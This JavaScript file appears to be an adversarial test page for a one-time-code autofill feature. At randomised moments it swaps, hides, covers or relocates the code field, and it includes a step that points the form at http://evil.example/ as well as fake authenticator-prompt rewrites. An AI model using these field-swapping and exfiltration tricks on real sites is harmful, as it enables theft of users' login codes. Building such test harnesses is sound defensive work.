// The page changes under a code that is on its way: ?seed says what it does, at which sign of the fill, how long after;
// ?act and ?sign say it themselves.

const { searchParams } = new URL(location.href);
let state = Number(searchParams.get("seed"));
/** The next of a row of numbers from 0 to 1 (mulberry32). */
function random() {
  state = (state + 0x6d2b79f5) | 0;
  let t = Math.imul(state ^ (state >>> 15), 1 | state);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
}

const code = document.querySelector("#code");
const trap = document.querySelector("#trap");
const form = document.querySelector("#form");
const [at, there] = [document.querySelector("#at"), document.querySelector("#there")];

const acts = {
  "another in its place": () => code.replaceWith(trap),
  "its like in its place": () => code.replaceWith(code.cloneNode()),
  "its like under a cover": () => {
    const like = code.cloneNode();
    like.id = "trap";
    like.value = ""; // a clone has what the field has by now
    at.style.opacity = "0.001";
    code.replaceWith(like);
  },
  exchange() {
    at.append(trap);
    there.append(code);
  },
  "names exchanged": () => {
    for (const name of ["name", "autocomplete", "maxlength"]) trap.setAttribute(name, code.getAttribute(name));
    code.setAttribute("autocomplete", "off"); // without it the browser keeps what it holds: a page can have that
  },
  remove: () => code.remove(),
  "see-through": () => at.style.setProperty("opacity", "0.001"),
  cover: () =>
    document.body.insertAdjacentHTML("beforeend", '<div style="position:fixed;inset:0;background:#fff"></div>'),
  "away from the screen": () => at.style.setProperty("transform", "translateX(-9000px)"),
  "http action": () => form.setAttribute("action", "http://evil.example/"),
  "another purpose": () => {
    document.querySelector("#text").textContent = "We sent a text message with a code to your phone.";
    code.name = "sms";
  },
  "read-only": () => code.setAttribute("readonly", ""),
  "focus elsewhere": () => trap.focus(),
  "focus always elsewhere": () => addEventListener("focus", () => trap.focus(), true),
  "into a frame": () => document.querySelector("#frame").contentDocument.body.append(code),
  "into a shadow tree": () => at.attachShadow({ mode: "closed" }).append(code),
  address: () => history.pushState({}, "", "/attacks/elsewhere"),
  "document.open": () => {
    document.open();
    document.write('<p>Enter the code from your authenticator app.</p><input id="trap" autocomplete="one-time-code">');
    document.close();
  },
  "another page": () => location.assign("field.html?id=trap"),
  "a page of another site": () => location.assign("https://evil.example/attacks/field.html?id=trap"),
};
const names = Object.keys(acts);
const name = searchParams.get("act") ?? names[state % names.length];
const signs = ["mark", "autocomplete", "focus", "paste", "keydown", "beforeinput", "input"];
const sign = searchParams.get("sign") ?? signs[Math.floor(random() * signs.length)];
const after = searchParams.has("act") || random() < 0.3 ? -1 : Math.floor(random() * 60); // ms; at once where it is less than 0

globalThis.swap = { name, sign, after, count: names.length, done: false };
function act() {
  if (globalThis.swap.done) return;
  globalThis.swap.done = true;
  acts[name]();
}
const later = () => (after < 0 ? act() : setTimeout(act, after));
if (sign === "mark")
  new MutationObserver((records) => {
    if (records.some(({ removedNodes }) => [...removedNodes].some((node) => node.popover === "manual"))) later();
  }).observe(document, { subtree: true, childList: true });
else if (sign === "autocomplete") new MutationObserver(later).observe(code, { attributeFilter: [sign] });
else code.addEventListener(sign, later, { once: true, capture: true });
